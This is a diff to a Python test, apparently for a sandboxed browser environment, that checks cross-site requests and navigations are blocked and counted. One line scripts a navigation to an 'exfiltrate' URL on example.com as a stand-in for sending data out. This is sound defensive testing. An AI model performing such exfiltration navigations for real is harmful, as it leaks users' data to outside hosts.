@@ -63,11 +63,13 @@ def test_requests_the_page_makes_to_other_sites_are_aborted_and_counted(env):
         }""",
     )
     assert outcome == "blocked"
+    _, _, _, _, info = env.step("noop(0)")
+    assert info["blocked_urls"] == ["http://example.com/track"]
     # ...navigations are not covered by CSP, and the sandbox aborts them.
     page_eval(env, "() => { window.location.href = 'https://example.com/exfiltrate?q=1'; }")
     obs, _, _, _, info = env.step("noop(500)")
-    assert info["blocked_requests"] == 1
-    assert info["blocked_urls"] == ["https://example.com/exfiltrate?q=1"]
+    assert info["blocked_requests"] == 2
+    assert info["blocked_urls"][1] == "https://example.com/exfiltrate?q=1"
     assert "example.com is blocked" in obs["axtree_txt"]
 
 
